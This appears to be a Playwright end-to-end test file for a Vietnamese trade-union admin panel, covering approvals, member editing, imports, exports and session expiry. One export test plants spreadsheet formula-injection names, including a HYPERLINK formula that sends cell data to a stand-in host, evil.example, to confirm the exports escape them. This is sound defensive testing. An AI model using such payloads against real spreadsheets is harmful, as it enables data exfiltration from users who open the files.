/**
 * The admin panel in a real browser (Debian's chromium through playwright-core) against the real
 * server with the embedded demo data: each role doing its work, as a person would.
 */
import fs from 'node:fs';
import ExcelJS from 'exceljs';
import jwt from 'jsonwebtoken';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { demoPanel, gql, login, screenshot, tokenOf } from './support';

const demo = demoPanel();

const menu = (page: Page) => page.locator('.RaSidebar-fixed, .RaSidebar-paper, [class*="RaMenu"]').first();
const row = (page: Page, text: string) => page.locator('tbody tr', { hasText: text });
const notification = (page: Page) => page.locator('.MuiSnackbar-root');

describe('admin panel', () => {
  test('federation admin: Vietnamese UI, approves one nomination and bulk-rejects two, sees the award on the member', async () => {
    // Pick the cases from the demo: one the federation decides itself, two others to reject.
    const { token } = await tokenOf(demo.url, 'ldld.thanhhoa');
    const queue = (
      await gql(demo.url, '{ allNominations(filter:{awaitingMyReview:true}) { id nomineeName nomineeMemberId awardType { decidingLevel } } }', {}, token)
    ).allNominations as Array<{ id: string; nomineeName: string; nomineeMemberId: string; awardType: { decidingLevel: string } }>;
    expect(queue.length).toBeGreaterThanOrEqual(3);
    const approve = queue.find((n) => n.awardType.decidingLevel === 'FEDERATION')!;
    const reject = queue.filter((n) => n !== approve).slice(0, 2);

    const page = await demo.open();
    await page.goto(demo.url);
    // The login page is in Vietnamese.
    await page.getByText('Quản lý đoàn viên và thi đua khen thưởng').waitFor();
    expect(await page.locator('button[type="submit"]').innerText()).toMatch(/đăng nhập/i);

    await login(page, demo.url, 'ldld.thanhhoa');
    // A federation admin lands on the approval desk.
    expect(page.url()).toContain('#/approvals');
    await page.getByRole('heading', { level: 1, name: 'Bàn duyệt khen thưởng' }).waitFor();
    for (const n of queue) await row(page, n.nomineeName).first().waitFor();
    await screenshot(page, 'approval-desk');

    // Approve one (undoable, as the demo's AcceptButton): the notification, then the row leaves the desk.
    await row(page, approve.nomineeName).getByTestId('approve-button').click();
    await notification(page).getByText('Đã duyệt hồ sơ').waitFor();
    await row(page, approve.nomineeName).waitFor({ state: 'detached', timeout: 30_000 });

    // Bulk-reject two: the comment is required.
    for (const n of reject) await row(page, n.nomineeName).locator('input[type="checkbox"]').check();
    await page.getByTestId('bulk-reject').click();
    const dialog = page.getByTestId('comment-dialog');
    await dialog.getByText('Từ chối 2 đề nghị khen thưởng').waitFor();
    await dialog.getByTestId('confirm-decision').click();
    await dialog.getByText('Vui lòng ghi ý kiến').waitFor();
    await dialog.locator('textarea[name="comment"]').fill('Chưa đủ điều kiện: thiếu biên bản họp Hội đồng thi đua – khen thưởng.');
    await dialog.getByTestId('confirm-decision').click();
    await notification(page).getByText('Đã từ chối 2 hồ sơ').waitFor();
    for (const n of reject) await row(page, n.nomineeName).waitFor({ state: 'detached' });

    // A race: the second federation account decides the last one while this page still shows it.
    const last = queue.find((n) => n !== approve && !reject.includes(n))!;
    const other = await tokenOf(demo.url, 'ldld.thanhhoa2');
    await gql(demo.url, 'mutation($id:ID!){ reviewNomination(id:$id, decision:APPROVE, comment:"Đồng ý") { id } }', { id: last.id }, other.token);
    await row(page, last.nomineeName).getByTestId('return-button').click();
    await dialog.locator('textarea[name="comment"]').fill('Bổ sung xác nhận của thủ trưởng đơn vị.');
    await dialog.getByTestId('confirm-decision').click();
    await notification(page).getByText('Hồ sơ vừa được người khác xử lý trước bạn').waitFor();
    await row(page, last.nomineeName).waitFor({ state: 'detached' });
    await page.getByTestId('approvals-empty').waitFor();

    // The award is on the member's record, found by a search without diacritics.
    const plain = approve.nomineeName.normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/[đĐ]/g, 'd').toLowerCase();
    await page.goto(`${demo.url}/#/members`);
    await page.locator('input[name="q"]').fill(plain);
    await row(page, approve.nomineeName).first().click();
    await page.waitForURL(/#\/members\/\d+\/show/);
    await page.getByRole('tab', { name: 'Khen thưởng', exact: true }).click();
    await row(page, 'Bằng khen').first().waitFor();
    expect(await row(page, 'Bằng khen').first().innerText()).toMatch(/QĐ/);

    // The nomination's review history shows the decision.
    await page.goto(`${demo.url}/#/nominations/${approve.id}/show`);
    const timeline = page.getByTestId('review-timeline');
    await timeline.getByText('Duyệt · cấp Liên đoàn Lao động').waitFor();
    await page.getByText('Đã khen thưởng').filter({ visible: true }).first().waitFor();
  });

  test('grassroots chair: creates and edits a member (server validation on the field), nominates it, cannot reach another grassroots union by URL', async () => {
    const { token: adminToken } = await tokenOf(demo.url, 'admin');
    const other = (await gql(demo.url, '{ allGrassrootsUnions(filter:{code:["CDCS-CB-VPUB"]}) { id name } }', {}, adminToken)).allGrassrootsUnions[0];

    const page = await demo.open();
    await login(page, demo.url, 'cdcs.soyte');
    // No menu for what a chair cannot do: no federation, union or grassroots lists.
    const side = menu(page);
    await side.getByText('Đoàn viên').filter({ visible: true }).first().waitFor();
    const items = (await side.locator('a[role="menuitem"], a.MuiMenuItem-root').allInnerTexts()).map((t) => t.trim());
    expect(items).toEqual(expect.arrayContaining(['Đoàn viên', 'Nhập đoàn viên', 'Đơn vị của tôi', 'Tổ công đoàn']));
    for (const hidden of ['Liên đoàn Lao động', 'Công đoàn cấp trên cơ sở', 'Công đoàn cơ sở']) expect(items).not.toContain(hidden);

    await page.goto(`${demo.url}/#/members/create`);
    await page.locator('input[name="fullName"]').fill('Trần Thị Ánh Tuyết');
    await page.getByLabel('Nữ').check();
    await page.locator('input[name="birthDate"]').fill('15/04/1990');
    await page.locator('input[name="phone"]').fill('số máy bàn');
    // The grassroots union is the chair's own, already chosen.
    expect(await page.locator('input[name="grassrootsUnionId"], [data-source="grassrootsUnionId"] input').first().inputValue()).toContain('Sở Y tế');
    await page.locator('button[type="submit"]').click();
    // The server refuses the phone number: the message is on the field.
    await page.locator('.MuiFormHelperText-root.Mui-error', { hasText: 'Số điện thoại không hợp lệ' }).waitFor();
    await page.locator('input[name="phone"]').fill('0912 345 678');
    await page.locator('button[type="submit"]').click();
    await page.waitForURL(/#\/members\/\d+\/show/);
    await page.getByText('Trần Thị Ánh Tuyết').filter({ visible: true }).first().waitFor();
    await page.getByTestId('breadcrumb').getByText('Công đoàn cơ sở Sở Y tế').waitFor();
    await page.getByText('15/04/1990').waitFor();

    // Edit: a union position, saved and shown.
    const memberUrl = page.url();
    await page.getByRole('link', { name: 'Sửa' }).click();
    await page.locator('input[name="position"]').fill('Tổ phó');
    await page.locator('button[type="submit"]').click();
    await page.waitForURL(memberUrl);
    await page.getByText('Tổ phó').waitFor();

    // Nominate the new member for the grassroots union's own title, and send it up.
    await page.goto(`${demo.url}/#/nominations/create`);
    await page.locator('input[name="awardTypeId"]').fill('DVXS');
    await page.getByRole('option', { name: /DVXS/ }).click();
    await page.locator('input[name="nomineeMemberId"]').fill('anh tuyet');
    await page.getByRole('option', { name: /Trần Thị Ánh Tuyết/ }).click();
    await page.locator('textarea[name="achievements"]').fill('Hoàn thành xuất sắc nhiệm vụ; tích cực trong phong trào "Giỏi việc nước, đảm việc nhà".');
    await page.locator('button[type="submit"]').click();
    await page.waitForURL(/#\/nominations\/\d+\/show/);
    await page.locator('[data-status="DRAFT"]').waitFor();
    await page.getByRole('button', { name: 'Gửi đề nghị' }).click();
    // DVXS is decided by the grassroots union itself: it waits for a second chair account, and says so (issue 12).
    await notification(page).getByText('Hồ sơ chờ một tài khoản khác cùng cấp của đơn vị bạn duyệt').waitFor();
    await page.locator('[data-status="PENDING"]').waitFor();
    await page.getByTestId('review-timeline').getByText('Gửi đề nghị').waitFor();

    // Another grassroots union, typed in the address bar: as if it did not exist.
    await page.goto(`${demo.url}/#/grassrootsUnions/${other.id}/show`);
    await notification(page).getByText('Không tìm thấy, hoặc nằm ngoài phạm vi đơn vị của bạn').waitFor();
    await page.waitForURL((u) => u.hash === '#/' || u.hash === '');
    expect(await page.getByText(other.name).count()).toBe(0);
  });

  test('analyst: the member list has no phone or birth-date column; English switch', async () => {
    const page = await demo.open();
    await login(page, demo.url, 'analyst');
    await page.goto(`${demo.url}/#/members`);
    await page.getByTestId('personal-hidden').waitFor();
    const headers = (await page.locator('thead th').allInnerTexts()).map((h) => h.trim());
    expect(headers).toEqual(expect.arrayContaining(['Họ và tên', 'Giới tính', 'Số thẻ đoàn viên']));
    expect(headers).not.toContain('Điện thoại');
    expect(headers).not.toContain('Ngày sinh');
    // Nor accounts or the audit trail in the menu.
    expect(await menu(page).getByText('Tài khoản', { exact: true }).count()).toBe(0);
    expect(await menu(page).getByText('Nhật ký thay đổi', { exact: true }).count()).toBe(0);

    // The CSV export of the list has no personal data either.
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Xuất CSV' }).click()]);
    const csv = fs.readFileSync((await download.path())!, 'utf8').replace(/^\ufeff/, '');
    const header = csv.split(/\r?\n/)[0].split(',');
    expect(header).toEqual(expect.arrayContaining(['Họ và tên', 'Giới tính', 'Công đoàn cơ sở']));
    expect(header).not.toContain('Điện thoại');
    expect(csv.split(/\r?\n/).length).toBeGreaterThan(10);

    // Members named like spreadsheet formulas (a chair typed them): the exports hold them as text.
    const chair = await tokenOf(demo.url, 'cdcs.soyte');
    const unitId = (await gql(demo.url, '{ me { scopeUnitId } }', {}, chair.token)).me.scopeUnitId;
    const hostile = [
      { fullName: '=HYPERLINK("http://evil.example/?d="&B2,"x")', cardNumber: 'EXPINJ-1' },
      { fullName: '@SUM(1+1)*cmd', cardNumber: 'EXPINJ-2' },
    ];
    for (const m of hostile)
      await gql(
        demo.url,
        'mutation($n:String!,$u:ID!,$c:String){ createMember(fullName:$n, gender:FEMALE, grassrootsUnionId:$u, cardNumber:$c, joinedAt:"2024-03-07") { id } }',
        { n: m.fullName, u: unitId, c: m.cardNumber },
        chair.token,
      );
    await page.locator('input[name="q"]').fill('expinj');
    // (not waitForFunction with a string: the panel's CSP forbids eval)
    for (let i = 0; i < 150 && (await page.locator('tbody tr').count()) !== 2; i++) await page.waitForTimeout(100);
    expect(await page.locator('tbody tr').count()).toBe(2);
    await row(page, 'EXPINJ-1').waitFor();

    const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Xuất CSV' }).click()]);
    const csvBytes = fs.readFileSync((await csvDownload.path())!);
    expect([...csvBytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csvTable = Papa.parse<string[]>(csvBytes.toString('utf8').replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
    const nameAt = csvTable[0].indexOf('Họ và tên');
    const cardAt = csvTable[0].indexOf('Số thẻ đoàn viên');
    const joinedAt = csvTable[0].indexOf('Ngày vào công đoàn');
    expect(csvTable.length).toBe(3);
    for (const m of hostile) {
      const r = csvTable.find((cells) => cells[cardAt] === m.cardNumber)!;
      expect(r[nameAt]).toBe(`'${m.fullName}`);
      expect(r[joinedAt]).toBe('07/03/2024');
    }

    const [xlsxDownload] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Xuất Excel' }).click()]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile((await xlsxDownload.path())!);
    const ws = wb.worksheets[0];
    const xlsxHeader = (ws.getRow(1).values as unknown[]).slice(1);
    const col = (h: string) => xlsxHeader.indexOf(h) + 1;
    expect(ws.rowCount).toBe(3);
    ws.eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
    for (const m of hostile) {
      const r = [2, 3].map((n) => ws.getRow(n)).find((row) => row.getCell(col('Số thẻ đoàn viên')).value === m.cardNumber)!;
      const name = r.getCell(col('Họ và tên'));
      expect(name.type).toBe(ExcelJS.ValueType.String);
      expect(name.value).toBe(m.fullName);
      expect(name.numFmt).toBe('@');
      const joined = r.getCell(col('Ngày vào công đoàn'));
      expect(joined.value).toEqual(new Date(Date.UTC(2024, 2, 7)));
      expect(joined.numFmt).toBe('dd/mm/yyyy');
    }

    // English on request.
    await page.getByRole('button', { name: /tiếng việt/i }).click();
    await page.getByRole('menuitem', { name: 'English' }).click();
    await page.locator('thead th', { hasText: 'Full name' }).waitFor();
    const en = (await page.locator('thead th').allInnerTexts()).map((h) => h.trim());
    expect(en).not.toContain('Phone');
    expect(en).not.toContain('Birth date');
  });

  test('member import: a file with one bad row shows the error by row and column, the good rows are imported', async () => {
    const page = await demo.open();
    await login(page, demo.url, 'cdcs.soyte');
    await page.goto(`${demo.url}/#/import`);
    await page.getByTestId('member-import').waitFor();
    const csv = [
      'Họ và tên *,Giới tính *,Ngày sinh,Điện thoại,Số thẻ đoàn viên',
      'Phạm Văn Nhập,Nam,02/03/1985,0912000001,IMP-0001',
      'Đỗ Thị Lỗi,Không rõ,31/12/1992,0912000002,IMP-0002',
      'Vũ Thị Đúng,Nữ,20/10/1995,,IMP-0003',
    ].join('\n');
    await page.getByTestId('import-file').setInputFiles({ name: 'doan-vien.csv', mimeType: 'text/csv', buffer: Buffer.from('\ufeff' + csv, 'utf8') });
    const errors = page.getByTestId('import-errors');
    await errors.waitFor();
    const first = errors.locator('tbody tr').first();
    expect(await first.locator('td').nth(0).innerText()).toBe('3');
    expect(await first.locator('td').nth(1).innerText()).toBe('Giới tính');
    await page.getByTestId('import-summary').getByText('3 dòng: 2 hợp lệ, 1 có lỗi').waitFor();
    // All or nothing writes nothing while a row is wrong; the valid rows can go in alone.
    expect(await page.getByTestId('import-write').isDisabled()).toBe(true);
    await page.getByLabel('Ghi các dòng hợp lệ, bỏ qua dòng lỗi').check();
    await page.getByTestId('import-write').click();
    await page.getByTestId('import-result').getByText('Đã nhập 2 đoàn viên').waitFor();
  });

  test('an expired or refused token goes back to the login page with a message', async () => {
    const page = await demo.open();
    await login(page, demo.url, 'analyst.thanhhoa');
    await page.goto(`${demo.url}/#/members`);
    await page.locator('tbody tr').first().waitFor();
    const session = JSON.parse((await page.evaluate('sessionStorage.getItem("congdoan.session")')) as string);

    // The server stops accepting the token (here: not signed by it) while the page is open.
    session.token = jwt.sign({ tv: 1 }, 'not-the-server-secret', { subject: session.user.id, expiresIn: 3600 });
    await page.evaluate(`sessionStorage.setItem("congdoan.session", ${JSON.stringify(JSON.stringify(session))})`);
    await page.getByRole('button', { name: 'Làm mới' }).click();
    await page.waitForURL(/#\/login/);
    await page.getByTestId('session-expired').getByText('Phiên đăng nhập đã hết hạn').waitFor();

    // A token past its expiry: back to login as soon as the panel checks it.
    await login(page, demo.url, 'analyst.thanhhoa');
    const fresh = JSON.parse((await page.evaluate('sessionStorage.getItem("congdoan.session")')) as string);
    fresh.token = jwt.sign({ tv: 1, exp: Math.floor(Date.now() / 1000) - 60 }, demo.server.config.jwtSecret, { subject: fresh.user.id });
    await page.evaluate(`sessionStorage.setItem("congdoan.session", ${JSON.stringify(JSON.stringify(fresh))})`);
    await page.goto(`${demo.url}/#/nominations`);
    await page.waitForURL(/#\/login/);
    await page.getByTestId('session-expired').getByText('Phiên đăng nhập đã hết hạn').waitFor();
  });

  test('a session stored by an older panel build (no permissions) is renewed from the server, or ends cleanly', async () => {
    const page = await demo.open();
    await login(page, demo.url, 'cdcs.soyte');
    const readSession = async () => JSON.parse((await page.evaluate('sessionStorage.getItem("congdoan.session")')) as string);
    const session = await readSession();
    expect(session.user.permissions).toEqual(expect.arrayContaining(['WriteMember', 'WriteTeam', 'Review']));
    expect(session.user.reviewLevel).toBe('GRASSROOTS');
    const { permissions, grantableRoles, reviewLevel, ...older } = session.user;
    // Stored and reloaded in one go: the page open before must not act on the stored session first.
    const storeAndReload = async (s: unknown) => {
      await Promise.all([
        page.waitForEvent('load'),
        page.evaluate(`sessionStorage.setItem("congdoan.session", ${JSON.stringify(JSON.stringify(s))}); location.reload()`),
      ]);
    };

    // The panel is upgraded while the tab keeps the older session: it asks `me` again and goes on.
    await page.goto(`${demo.url}/#/members`);
    await page.locator('tbody tr').first().waitFor();
    await storeAndReload({ token: session.token, user: older });
    await menu(page).getByText('Nhập đoàn viên').waitFor();
    await page.getByRole('link', { name: 'Thêm mới' }).first().waitFor();
    const renewed = await readSession();
    expect(renewed.token).toBe(session.token);
    expect(renewed.user).toEqual({ ...older, permissions, grantableRoles, reviewLevel });

    // An older session whose token the server no longer accepts: signed out, back to the login page.
    const refused = jwt.sign({ tv: 1 }, 'not-the-server-secret', { subject: session.user.id, expiresIn: 3600 });
    await storeAndReload({ token: refused, user: older });
    await page.waitForURL(/#\/login/);
    await page.getByTestId('session-expired').getByText('Phiên đăng nhập đã hết hạn').waitFor();
    expect(await page.evaluate('sessionStorage.getItem("congdoan.session")')).toBeNull();
  });

  test('member list screenshot for the README', async () => {
    const page = await demo.open();
    await login(page, demo.url, 'ldld.thanhhoa');
    // Searched without diacritics ("nguyen" finds Nguyễn), which also keeps out the members that
    // other tests of this file create (formula-like names for the export test).
    await page.goto(`${demo.url}/#/members?filter=${encodeURIComponent(JSON.stringify({ q: 'nguyen' }))}`);
    await page.locator('tbody tr').nth(5).waitFor();
    expect(await page.locator('tbody tr').first().innerText()).toMatch(/Nguyễn/);
    await screenshot(page, 'member-list');
    await page.goto(`${demo.url}/#/`);
    await page.getByTestId('figure-members').waitFor();
    await page.locator('.recharts-surface').nth(1).waitFor();
    await page.mouse.move(5, 890);
    await screenshot(page, 'dashboard');
  });
});
